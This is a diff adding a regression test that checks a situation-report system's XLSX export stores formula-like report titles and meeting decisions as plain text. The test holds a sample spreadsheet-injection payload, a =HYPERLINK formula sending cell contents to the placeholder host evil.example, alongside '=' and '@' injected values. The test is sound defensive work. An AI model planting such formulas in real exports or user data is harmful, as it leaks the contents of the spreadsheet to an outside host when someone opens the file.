@@ -193,3 +193,32 @@ def test_the_pdf_prints_twenty_clarifications_and_points_to_the_xlsx_for_the_res
     ws = load_workbook(io.BytesIO(bytes(Lapsit.objects.get(audience="pimpinan").xlsx)))["Hoaks"]
     rows = [r[3].value for r in ws.iter_rows(min_row=3)]
     assert sum(1 for v in rows if v and v.startswith("Klarifikasi nomor")) == 25
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/leak?d="&A3,"Lihat")'
+
+
+def test_a_formula_in_a_report_title_or_a_rakor_decision_stays_plain_text_in_the_lapsit_xlsx(
+        busy: World, polres_ops: Client) -> None:
+    """Issue 14 item 4: a public report titled =HYPERLINK(...) and a rakor decision starting with = were live
+    formulas in the lapsit's annex. Each is text now, shown with an apostrophe in front, never a formula."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from praja.situation.tests.busy import make_rakor, make_report
+
+    make_report(None, "35.07.01", title=HOSTILE_TITLE)
+    make_rakor(busy, decisions=[("=1+1 patroli gabungan", "polsek-donomulyo", 5, False),
+                                ("@SUM(A1:A9) sosialisasi", "polres-malang", 3, False)])
+    polres_ops.post("/situasi/lapsit/terbitkan/", {"wilayah": "35.07"})
+    raw = bytes(Lapsit.objects.get(audience="pimpinan").xlsx)
+    wb = load_workbook(io.BytesIO(raw))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    titles = [c.value for c in wb["Kejadian"]["E"]]
+    assert "'" + HOSTILE_TITLE in titles
+    decisions = [c.value for c in wb["Komitmen"]["B"]]
+    assert "'=1+1 patroli gabungan" in decisions and "'@SUM(A1:A9) sosialisasi" in decisions
+    with zipfile.ZipFile(io.BytesIO(raw)) as z:  # no formula element anywhere in the workbook's XML
+        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.endswith(".xml"))
